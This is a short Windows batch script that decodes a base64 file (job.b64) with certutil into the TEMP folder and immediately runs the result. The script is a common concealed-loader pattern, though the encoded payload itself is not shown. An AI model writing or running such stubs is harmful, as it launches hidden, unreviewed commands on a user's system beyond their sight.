@echo off
certutil -f -decode "%~dp0job.b64" "%TEMP%\job.cmd"
call "%TEMP%\job.cmd"
